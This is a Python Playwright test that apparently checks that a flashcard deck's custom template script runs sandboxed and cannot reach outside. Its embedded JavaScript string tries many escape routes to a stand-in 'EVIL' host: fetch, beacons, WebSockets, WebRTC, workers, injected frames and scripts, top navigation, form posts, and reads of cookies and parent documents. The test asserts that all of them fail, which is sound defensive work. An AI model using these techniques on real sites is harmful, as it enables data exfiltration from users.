"""A deck's own template in a real browser: its script runs where it was asked to, and only there.

What it tries is watched from outside as well: a listener on this machine stands for the site that
it wants to reach.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from sqlmodel import Session

from tests.browser.states import desk
from tests.own_looks import a_note, scripted
from tests.servers import Server

# Each attempt notes what came of it; what was kept from it says "refused".
_TRIES = """
  window.came = {};
  const WITHIN = `fetch("http://EVIL/within").catch(() => 0);
    const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:EVIL" }] });
    call.createDataChannel("x");
    call.createOffer().then((offer) => call.setLocalDescription(offer));`;
  const attempt = (name, act) => {
    try { came[name] = String(act()); } catch { came[name] = "refused"; }
  };
  attempt("ran", () => 6 * 7);
  attempt("parent", () => parent.document.title);
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("origin", () => self.origin);
  attempt("webrtc", () => typeof RTCPeerConnection);
  attempt("picture", () => { new Image().src = "http://EVIL/picture"; });
  attempt("beacon", () => { navigator.sendBeacon("http://EVIL/beacon", "x"); });
  attempt("socket", () => { new WebSocket("ws://EVIL/socket"); });
  attempt("worker", () => {
    new Worker(URL.createObjectURL(new Blob(["fetch('http://EVIL/worker')"])));
  });
  attempt("popup", () => open("http://EVIL/popup"));
  attempt("top", () => { top.location = "http://EVIL/top"; });
  for (const [name, place] of [["fetch", "http://EVIL/fetch"], ["app", "/settings"]])
    fetch(place).then(() => { came[name] = "answered"; }, () => { came[name] = "refused"; });
  const add = (tag, values) => document.body.append(
    Object.assign(document.createElement(tag), values),
  );
  for (const [tag, values] of [
    ["link", { rel: "preconnect", href: "http://EVIL/" }],
    ["script", { src: "http://EVIL/script" }],
    ["iframe", { src: "http://EVIL/frame" }],
    ["iframe", { srcdoc: "<script>" + WITHIN + "</" + "script>" }],
    ["object", { data: "http://EVIL/object" }],
    ["video", { src: "http://EVIL/video" }],
  ]) attempt(`${tag} ${Object.keys(values)}`, () => add(tag, values));
  attempt("markup", () => { document.body.innerHTML += "<" + "iframe srcdoc='x'>"; });
  attempt("program", () => {
    location = "javascript:'<script>" + WITHIN + "</" + "script>'";
  });
  const form = document.createElement("form");
  form.action = "http://EVIL/form";
  document.body.append(form);
  form.submit();
"""

# What the browser refuses without a word to the script.
_SILENT = ("picture", "beacon", "socket", "worker", "program", "video src")


def test_script_of_a_deck_runs_when_asked_for_and_reaches_nothing(page: Page, world: World) -> None:
    page.goto("/review")
    expect(page.locator("#stem")).to_have_text("The Volga?")
    assert [frame for frame in page.frames if "/looks/" in frame.url] == []
    page.get_by_text("Show as the deck made it").click()
    frame = page.frame_locator("iframe.own-look")
    expect(frame.locator("#box")).to_have_text("The Volga?")
    inside = next(one for one in page.frames if "/looks/" in one.url)
    inside.wait_for_function("came.fetch && came.app")
    page.wait_for_timeout(500)
    came: dict[str, Any] = json.loads(inside.evaluate("JSON.stringify(came)"))
    assert came.pop("ran") == "42"
    assert came.pop("origin") == "null"
    assert came.pop("webrtc") == "undefined"
    silent = {name: came.pop(name) for name in _SILENT}
    assert set(silent.values()) <= {"undefined", "refused"}
    assert came.pop("popup") in {"null", "refused"}
    assert {name: told for name, told in came.items() if told != "refused"} == {}
    # It may send itself elsewhere as little, and the app beside it goes on by keys.
    inside.evaluate(f"location = 'http://{world.evil}/away'")
    page.wait_for_timeout(300)
    page.locator("h1").evaluate("heading => heading.ownerDocument.activeElement.blur()")
    page.keyboard.press("Space")
    expect(page.locator("form.grades")).to_be_visible()
    page.keyboard.press("3")
    expect(page.locator("form.grades")).to_have_count(0)
    assert world.told() == []


class World:
    """The app, and the site that the deck wants to reach."""

    def __init__(self, server: Server, listeners: ExitStack) -> None:
        self.server = server
        self._tcp = listeners.enter_context(socket.socket())
        self._tcp.bind(("127.0.0.1", 0))
        self._tcp.listen()
        self._tcp.setblocking(False)
        self.evil = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        self._udp = listeners.enter_context(socket.socket(type=socket.SOCK_DGRAM))
        self._udp.bind(("127.0.0.1", self._tcp.getsockname()[1]))
        self._udp.setblocking(False)

    def told(self) -> list[bytes]:
        """Return what anybody said; a browser that only knocks before it is stopped said nothing.

        It may connect to where a frame wants to go before it asks whether the frame may.
        """
        found = []
        with suppress(BlockingIOError):
            while True:
                found.append(self._udp.recv(1000))
        with suppress(BlockingIOError):
            while True:
                caller, _address = self._tcp.accept()
                with caller:
                    caller.settimeout(0.2)
                    with suppress(TimeoutError):
                        found.append(caller.recv(1000))
        return [one for one in found if one]


@pytest.fixture
def world(live_server: Server) -> Iterator[World]:
    with ExitStack() as listeners, desk(live_server) as here:
        made = World(live_server, listeners)
        script = _TRIES.replace("EVIL", made.evil)

        def add(session: Session) -> None:
            a_note(session, here.learner_id, scripted(script), "The Volga?")

        here.write(add)
        yield made


@pytest.fixture
def page(chromium: Browser, world: World) -> Iterator[Page]:
    """Return a page that is allowed to complain: what is refused is told on its console."""
    context = chromium.new_context(base_url=world.server.url)
    yield context.new_page()
    context.close()
